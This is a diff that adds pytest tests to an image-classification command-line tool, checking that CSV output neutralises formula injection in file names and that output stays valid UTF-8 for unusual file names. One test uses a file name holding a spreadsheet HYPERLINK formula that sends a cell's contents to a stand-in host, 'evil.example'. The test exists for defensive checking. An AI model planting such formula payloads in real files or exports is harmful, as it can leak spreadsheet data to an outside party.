@@ -192,3 +192,62 @@ def test_self_test_from_source(checkpoint):
     summary = json.loads(r.stdout.splitlines()[-1])
     assert summary["ok"] and not summary["frozen"] and summary["cam"]["shape"] == [5, 7, 7]
     assert summary["window"].startswith("opened")
+
+
+def run_cli_bytes(*args, env=None, cwd=None, timeout=180) -> subprocess.CompletedProcess:
+    """Like run_cli, but stdout comes back as bytes (to check the encoding itself), the worktree's package first."""
+    return subprocess.run(
+        [sys.executable, "-m", "resnext_gui", *map(str, args)],
+        capture_output=True,
+        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})},
+        timeout=timeout,
+        cwd=cwd or REPO,
+    )
+
+
+def test_csv_output_neutralises_formulas_in_file_names(checkpoint, photos, tmp_path):
+    evil = '=HYPERLINK("evil.example?"&A1,"click")'  # no slash: it is a file name
+    shutil.copy(photos["coffee"], tmp_path / f"{evil}.png")
+    (tmp_path / "@SUM(1+1).jpg").write_text("not a photo")
+    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", "csv", f"{evil}.png", "@SUM(1+1).jpg", cwd=tmp_path)
+    assert r.returncode == 1, r.stderr
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
+    assert [row["path"] for row in rows] == [f"'{evil}.png", "'@SUM(1+1).jpg"]
+    assert rows[0]["ok"] == "True" and rows[1]["error"].startswith("'@SUM(1+1).jpg is not an image")
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
+
+
+@pytest.fixture(scope="module")
+def odd_names(tmp_path_factory, photos):
+    """A folder of photos whose names are not valid UTF-8 or hold Unicode line separators."""
+    folder = tmp_path_factory.mktemp("odd names")
+    names = [b"caf\xe9 latin-1.png", b"\xff\xfe raw bytes.png", "line\u2028sep\u2029para\u0085nel.png".encode()]
+    data = photos["coffee"].read_bytes()
+    for name in names:
+        with open(os.path.join(os.fsencode(folder), name), "wb") as fh:
+            fh.write(data)
+    return folder, names
+
+
+@pytest.mark.parametrize("fmt,lc_all", [("jsonl", "C"), ("csv", "C.UTF-8"), ("jsonl", "C.UTF-8")])
+def test_output_is_valid_utf8_whatever_the_file_names(checkpoint, odd_names, fmt, lc_all):
+    folder, names = odd_names
+    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", fmt, folder,
+                      env={"LC_ALL": lc_all, "LANG": lc_all, "PYTHONUTF8": "", "PYTHONIOENCODING": ""})
+    assert r.returncode == 0, r.stderr.decode("utf-8", "replace")
+    text = r.stdout.decode("utf-8")  # strict: raises on any invalid byte
+    if fmt == "csv":
+        got = list(csv.DictReader(io.StringIO(text, newline="")))
+    else:
+        assert not any(c in text for c in "\u2028\u2029\u0085")
+        got = [json.loads(line) for line in text.split("\n") if line]
+    assert len(got) == len(names)
+    by_bytes = {}
+    for rec in got:
+        if rec.get("path_bytes"):
+            assert "\ufffd" in rec["path"]
+            by_bytes[bytes.fromhex(rec["path_bytes"])] = rec
+        else:
+            by_bytes[os.fsencode(rec["path"])] = rec
+    assert set(by_bytes) == {os.path.join(os.fsencode(folder), n) for n in names}
+    assert all(str(rec["ok"]) == "True" for rec in got)
